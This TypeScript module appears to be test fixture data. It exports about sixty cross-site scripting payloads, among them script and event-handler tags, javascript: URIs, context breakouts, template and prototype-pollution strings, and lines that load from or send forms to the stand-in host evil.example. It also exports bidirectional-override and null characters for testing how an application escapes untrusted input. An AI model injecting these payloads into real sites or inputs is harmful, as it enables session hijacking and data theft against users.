const run = "alert(1)";

/** Sixty ways to be run where text should only be shown. */
export const payloads: readonly string[] = [
  ...[
    `<script>${run}</script>`,
    `<img src=x onerror=${run}>`,
    `<svg onload=${run}>`,
    `"><script>${run}</script>`,
  ],
  ...[
    `'><img src=x onerror=${run}>`,
    `javascript:${run}`,
    `<a href="javascript:${run}">x</a>`,
    `<iframe src="javascript:${run}">`,
  ],
  ...[
    `<body onload=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>`,
    `<video><source onerror=${run}>`,
  ],
  ...[
    `<audio src=x onerror=${run}>`,
    `<marquee onstart=${run}>`,
    `<object data="javascript:${run}">`,
    `<embed src="javascript:${run}">`,
  ],
  ...[
    `<base href="//evil.example/">`,
    `<link rel=stylesheet href="//evil.example/x.css">`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`,
  ],
  ...[
    `<form action="//evil.example"><button>x`,
    `<style>@import "//evil.example/x.css";</style>`,
    `<div style="background:url(//evil.example)">`,
  ],
  ...[
    `<math><mi xlink:href="data:x,<script>${run}</script>">`,
    `<svg><script>${run}</script></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text>x`,
  ],
  ...[
    `<svg><animate onbegin=${run} attributeName=x>`,
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`,
    `<template><script>${run}</script>`,
  ],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<textarea></textarea><script>${run}</script>`,
    `</title><script>${run}</script>`,
  ],
  ...[
    `</script><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `--><script>${run}</script>`,
    `]]><script>${run}</script>`,
  ],
  ...[
    `<!--<img src="--><img src=x onerror=${run}>">`,
    `<IMG SRC=JaVaScRiPt:${run}>`,
    `<img src="x\`\` onerror=${run}">`,
    `<img/src/onerror=${run}>`,
  ],
  ...[
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `%3Cscript%3E${run}%3C/script%3E`,
  ],
  ...[
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{alert(1)}",
    "[[alert(1)]]",
  ],
  ...[
    `data:text/html,<script>${run}</script>`,
    `vbscript:msgbox(1)`,
    `[x](javascript:${run})`,
    `![x](x"onerror="${run})`,
    "`-alert(1)-`",
  ],
  ...[
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "__proto__[x]=1",
    '{"$$typeof":"x"}',
    "$L1",
    "$undefined",
    `<x onclick=${run}>x</x>`,
  ],
];

/** Characters that make a text read in another order than it was written, alone and within one. */
export const turning: readonly string[] = [
  "\u202A",
  "\u202B",
  "\u202C",
  "\u202D",
  "\u202E",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u0000",
].map((character) => `Hem${character} igen`);
